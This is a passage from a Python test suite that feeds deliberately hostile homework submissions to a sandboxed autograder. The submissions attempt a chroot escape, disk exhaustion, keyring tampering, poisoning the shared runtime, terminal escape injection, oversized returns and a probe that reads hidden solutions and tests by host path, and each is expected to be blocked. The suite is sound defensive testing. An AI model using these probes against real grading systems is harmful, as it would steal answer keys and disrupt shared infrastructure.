            _CHROOT_ESCAPE, expect=r"chroot: .*(Operation not permitted|EPERM)", every=True,
            tags=frozenset({"files"})),
    Payload("disk_fill", "200 MB file in TMPDIR", _DISK_FILL, expect=r"SIGXFSZ|File too large",
            every=True,
            tags=frozenset({"files"})),
    Payload("disk_fill_total", "40 files of 8 MB in TMPDIR (each under the file size limit)",
            _DISK_TOTAL, expect=r"disk limit", every=True, tags=frozenset({"files"}),
            limits={"call_timeout": 30.0}),
    Payload("disk_fill_shared", "60 MB each into /tmp, /var/tmp and /dev/shm",
            _SHARED_FILL, expect=r"shared folders: /tmp: \w+Error.*/var/tmp: \w+Error.*"
            r"/dev/shm: \w+Error|disk limit", every=True, tags=frozenset({"files"}),
            limits={"call_timeout": 30.0}),
    Payload("keyrings", "read the session/user keyrings, plant a key in each",
            _KEYRING, expect=r"keyrings: refused", every=True, tags=frozenset({"kernel"})),
    Payload("import_solutions", "exec the solutions at import (Gradescope and host paths)",
            _IMPORT_SOLUTIONS, None, expect=r"not implemented", tags=frozenset({"files"})),
    Payload("input_tamper", "zero the input array in place, return zeros", _INPUT_TAMPER,
            expect=r"relu"),
    Payload("huge_return", "a 150 MB array as the answer", _HUGE_RETURN, expect=r"relu"),
    Payload("flaky", "right and wrong answers in turn (Hypothesis: flaky)", _FLAKY,
            expect=r"relu"),
    Payload("deep_nesting", "100000-deep lists, 2 million objects as the answer", _DEEP,
            expect=r"cannot accept|not a valid reply|too", every=True),
    Payload("protocol_sabotage", "stdout dup2()ed onto the reply pipe, then printing",
            _SABOTAGE, expect=r"not a valid reply|died|protocol"),
    Payload("poison_runtime", "write into the jail's shared runtime copy (numpy, stdlib, /w)",
            _POISON, expect=r"wrote: \[\]", every=True,
            tags=frozenset({"files"}), limits={"call_timeout": 30.0}),  # walks /usr/lib too
    Payload("terminal_escapes", "ANSI/OSC escapes (clear, title, clipboard) in messages",
            _TERMINAL, cli=True, expect=r"RuntimeError", every=True),
    # 1 MB on the wire: relu(X @ W1 + b1) @ W2 + b2 on the held-out notes would build
    # (10**6, N, 1) float64 temporaries (GBs) if the trusted side computed on it unchecked
    Payload("broadcast_params", "params whose b1 (10**6, 1, 1) int8 broadcasts to GBs in predict",
            '''
def train_two_layer_net(X, labels, n_hidden, *args, **kwargs):
    import numpy as np
    d, c = np.shape(X)[1], int(np.max(labels)) + 1
    params = {"W1": np.ones((d, 1)), "b1": np.zeros((10**6, 1, 1), dtype=np.int8),
              "W2": np.ones((1, c)), "b2": np.zeros(c)}
    return params, [0.0]
''', ("train_two_layer_net",), expect=r"expected shape \(\d+, \d+\), got shape \(\d+, 1\)"),
)

BY_NAME: dict[str, Payload] = {p.name: p for p in PAYLOADS}

#: Reads the solutions by their real path and prints + raises them. Read-only, so it may
#: also run WITHOUT the jail, to prove that the checks notice a sandbox that leaks.
LEAK_PROBE = Payload(
    "leak_probe",
    "read solutions/hw.py and hidden tests by their host paths",
    '''
def relu(x):
    texts = []
    for path in ("$root/solutions/hw.py", "$root/autograder/hidden_tests/test_part3_layers.py"):
        try:
            with open(path) as f:
                texts.append(f.read())
        except OSError as e:
            texts.append("cannot read %s: %s" % (path, e))
    print("\\n".join(texts))
    raise RuntimeError("\\n".join(texts)[-3000:])
''',
    expect=r"cannot read",
    every=True,
)

#: Reports what the sandboxed process looks like: its name (set by the prologue), uid, cwd.
WHOAMI = '''
def whoami():
    import ctypes
    import os
    buf = ctypes.create_string_buffer(32)
    ctypes.CDLL(None).prctl(16, buf, 0, 0, 0)  # PR_GET_NAME
    return [buf.value.decode(), os.getuid(), os.getgid(), os.getcwd(), os.path.exists("/proc")]
'''


def render(payload: Payload, ctx: Context, stub: Path = STUB) -> str:
    """The complete hw.py of ``payload``: the stubs, the prologue, the payload."""
    body = string.Template(PROLOGUE + payload.code).substitute(ctx.mapping())
    return stub.read_text(encoding="utf-8").rstrip("\n") + "\n" + body


def write_submission(payload: Payload, ctx: Context, folder: Path) -> Path:
    """Write the hw.py of ``payload`` into ``folder``; return its path."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "hw.py"
    path.write_text(render(payload, ctx), encoding="utf-8")
    return path
